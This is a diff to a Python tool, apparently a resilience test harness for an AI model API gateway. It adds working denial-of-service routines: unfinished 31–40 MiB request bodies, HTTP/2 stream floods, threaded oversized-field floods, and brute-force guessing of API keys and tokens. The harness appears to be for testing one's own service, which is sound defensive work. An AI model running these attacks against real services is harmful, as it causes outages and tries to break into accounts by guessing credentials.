@@ -11,27 +11,31 @@ import socket
 import ssl
 import sys
 import time
+from base64 import urlsafe_b64encode
 from collections import Counter
 from collections.abc import Callable, Generator, Sequence
 from contextlib import contextmanager, suppress
 from dataclasses import dataclass
+from threading import Thread
 
-PATH = "/v1/completions"
+PATH, _LIST = "/v1/completions", "/v1/models"
 _LIMIT_S = 10
 _MIB = 1024 * 1024
+_WHOLE, _CHUNKED = f"content-length: {31 * _MIB}", "transfer-encoding: chunked"
 
 Counts = Counter[str]
 
 
 @dataclass(frozen=True)
 class Target:
-    """A front door: where it listens, what trusts its certificate, the key of a client, and the name of a model."""
+    """A front door: where it listens, what trusts its certificate, the keys of two clients, and the name of a model."""
 
     address: str
     port: int
     host: str
     chain: str
     key: str
+    other_key: str
     model: str
 
     def connect(self, *, alpn: str = "http/1.1", source: int = 0) -> ssl.SSLSocket:
@@ -45,10 +49,10 @@ class Target:
         found = (f"127.0.0.{source}", 0) if source else None
         return socket.create_connection((self.address, self.port), timeout=_LIMIT_S, source_address=found)
 
-    def head(self, *headers: str, key: str | None = None, path: str = PATH) -> bytes:
+    def head(self, *headers: str, key: str | None = None, path: str = PATH, method: str = "POST") -> bytes:
         """Head of a request with a key: the client's own if none is given."""
         lines = [
-            f"POST {path} HTTP/1.1",
+            f"{method} {path} HTTP/1.1",
             f"host: {self.host}",
             f"authorization: Bearer {key or self.key}",
             "content-type: application/json",
@@ -97,12 +101,11 @@ def _sent(one: socket.socket, data: bytes) -> bool:
     return True
 
 
-def _bodies(target: Target, end_s: float, key: str | None, number: int, *, chunked: bool) -> Counts:
-    """Requests of 31 MiB all but whose last bytes are sent, and then nothing more."""
+def _bodies(target: Target, end_s: float, head: bytes, number: int = 200) -> Counts:
+    """Requests with bodies of 31 MiB that end before the last MiB."""
     seen, held = Counts(), list[socket.socket]()
-    kind = "transfer-encoding: chunked" if chunked else f"content-length: {31 * _MIB}"
     piece = b"x" * _MIB
-    framed = b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece
+    framed = b"%x\r\n%s\r\n" % (len(piece), piece) if b"chunked" in head else piece
     with _closing(held):
         while time.monotonic() < end_s:
             if len(held) >= number:
@@ -117,9 +120,7 @@ def _bodies(target: Target, end_s: float, key: str | None, number: int, *, chunk
                 continue
             held.append(one)
             seen["requests"] += 1
-            taken = _sent(one, target.head(kind, key=key)) and all(
-                time.monotonic() < end_s and _sent(one, framed) for _ in range(30)
-            )
+            taken = _sent(one, head) and all(time.monotonic() < end_s and _sent(one, framed) for _ in range(30))
             seen["whole but for the last MiB"] += taken
             if answer := _answer(one, 0.05):
                 seen[answer] += 1
@@ -130,17 +131,66 @@ def _bodies(target: Target, end_s: float, key: str | None, number: int, *, chunk
 
 def unfinished_bodies(target: Target, end_s: float) -> Counts:
     """Bodies of 31 MiB that are never finished, with a valid key."""
-    return _bodies(target, end_s, None, 200, chunked=False)
+    return _bodies(target, end_s, target.head(_WHOLE))
 
 
 def unfinished_chunked_bodies(target: Target, end_s: float) -> Counts:
     """The same without a length."""
-    return _bodies(target, end_s, None, 200, chunked=True)
+    return _bodies(target, end_s, target.head(_CHUNKED))
+
+
+def unfinished_gets(target: Target, end_s: float) -> Counts:
+    """The same by a method whose requests have no body."""
+    return _bodies(target, end_s, target.head(_CHUNKED, path=_LIST, method="GET"))
+
+
+def longer_than_allowed(target: Target, end_s: float) -> Counts:
+    """The same with a length that is larger than any that is allowed."""
+    return _bodies(target, end_s, target.head(f"content-length: {40 * _MIB}"))
 
 
 def unfinished_bodies_of_strangers(target: Target, end_s: float) -> Counts:
     """The same with keys that nobody has."""
-    return _bodies(target, end_s, "sk-" + "0" * 40, 200, chunked=False)
+    return _bodies(target, end_s, target.head(_WHOLE, key="sk-" + "0" * 40))
+
+
+def reservations_of_two_clients(target: Target, end_s: float) -> Counts:
+    """Forty requests without a length of each of two clients, of one byte each, whose connections end at once."""
+    seen = Counts()
+    while time.monotonic() < end_s:
+        for key in (target.key, target.other_key):
+            for _ in range(40):
+                with suppress(OSError), target.connect() as one:
+                    seen["requests"] += _sent(one, target.head(_CHUNKED, key=key) + b"1\r\nx\r\n")
+                    if answer := _answer(one, 0.01):
+                        seen[answer] += 1
+        time.sleep(1)
+    return seen
+
+
+def long_names(target: Target, end_s: float) -> Counts:
+    """Fields of 30 MiB that are refused by their names, whose answers are read, on eight connections."""
+    seen = Counts()
+    body = b'{"kv_' + b"x" * (30 * _MIB) + b'":1}'
+    head = target.head(f"content-length: {len(body)}", "connection: close")
+
+    def ask() -> None:
+        while time.monotonic() < end_s:
+            with suppress(OSError), target.connect() as one:
+                _sent(one, head)
+                _sent(one, body)
+                one.settimeout(_LIMIT_S)
+                answer = one.recv(65536)
+                seen[_status(answer)] += 1
+                while more := one.recv(65536):
+                    seen["MiB answered"] += len(more) // _MIB
+
+    threads = [Thread(target=ask) for _ in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return seen
 
 
 def unanswered_bodies(target: Target, end_s: float) -> Counts:
@@ -214,6 +264,10 @@ def idle_encrypted_connections(target: Target, end_s: float) -> Counts:
 
 def guessed_keys(target: Target, end_s: float) -> Counts:
     """Requests with keys by chance, one after the other on ten connections."""
+    return _guessed(target, end_s, lambda: f"sk-{os.urandom(24).hex()}")
+
+
+def _guessed(target: Target, end_s: float, guess: Callable[[], str]) -> Counts:
     seen, held = Counts(), list[socket.socket]()
     with _closing(held):
         while time.monotonic() < end_s:
@@ -221,7 +275,7 @@ def guessed_keys(target: Target, end_s: float) -> Counts:
                 while len(held) < 10:
                     held.append(target.connect())
             for one in list(held):
-                _sent(one, target.head("content-length: 0", key=f"sk-{os.urandom(24).hex()}"))
+                _sent(one, target.head("content-length: 0", key=guess()))
             for one in list(held):
                 answer = _answer(one, 1) or "no answer"
                 seen[answer] += 1
@@ -229,6 +283,12 @@ def guessed_keys(target: Target, end_s: float) -> Counts:
                     held.remove(one)
                     one.close()
     return seen
+
+
+def guessed_tokens(target: Target, end_s: float) -> Counts:
+    """The same with tokens by chance in the form of the provider's, where clients have tokens."""
+    said = target.key.rpartition(".")[0]
+    return _guessed(target, end_s, lambda: f"{said}.{urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}")
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -256,11 +316,11 @@ def _length(number: int) -> bytes:
     return bytes((*data, rest))
 
 
-def _block(target: Target, *more: tuple[str, str]) -> bytes:
+def _block(target: Target, *more: tuple[str, str], method: str = "POST", path: str = PATH) -> bytes:
     fields = [
-        (":method", "POST"),
+        (":method", method),
         (":scheme", "https"),
-        (":path", PATH),
+        (":path", path),
         (":authority", target.host),
         ("authorization", f"Bearer {target.key}"),
         ("content-type", "application/json"),
@@ -368,11 +428,24 @@ def empty_frames(target: Target, end_s: float) -> Counts:
 
 def many_streams(target: Target, end_s: float) -> Counts:
     """HTTP/2 connections with all the streams that they may have, each with a body that never ends."""
+    return _streams(target, end_s, _block(target, ("content-length", str(31 * _MIB))))
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+
+def many_get_streams(target: Target, end_s: float) -> Counts:
+    """The same by a method whose requests have no body, without a length."""
+    return _streams(target, end_s, _block(target, method="GET", path=_LIST))
+
+
+def many_longer_streams(target: Target, end_s: float) -> Counts:
+    """The same with a length that is larger than any that is allowed."""
+    return _streams(target, end_s, _block(target, ("content-length", str(40 * _MIB))))
+
+
+def _streams(target: Target, end_s: float, block: bytes) -> Counts:
+    def flood(_: Target, one: ssl.SSLSocket, end_s: float) -> int:
         streams = range(1, 201, 2)
         for stream in streams:
-            one.sendall(_frame(_HEADERS, _END_HEADERS, stream, _block(target, ("content-length", str(31 * _MIB)))))
+            one.sendall(_frame(_HEADERS, _END_HEADERS, stream, block))
         sent = 0
         with suppress(OSError):
             while time.monotonic() < end_s:
@@ -508,25 +581,35 @@ def smuggled_http2(target: Target, end_s: float) -> Counts:
 ATTACKS: tuple[Attack, ...] = (
     unfinished_bodies,
     unfinished_chunked_bodies,
+    unfinished_gets,
+    longer_than_allowed,
     unfinished_bodies_of_strangers,
+    reservations_of_two_clients,
     unanswered_bodies,
     slow_headers,
     idle_connections,
     idle_encrypted_connections,
     guessed_keys,
+    guessed_tokens,
     rapid_resets,
     continuations,
     header_bombs,
     pings,
     empty_frames,
     many_streams,
+    many_get_streams,
+    many_longer_streams,
     unread_answers,
     compressed_bombs,
     nested_bodies,
     wide_bodies,
+    long_names,
     smuggled,
     smuggled_http2,
 )
+
+OF_TOKENS: tuple[Attack, ...] = (guessed_tokens,)
+"""Attacks on a front door whose clients have tokens; the keys of their target are tokens."""
 
 
 def main() -> None:
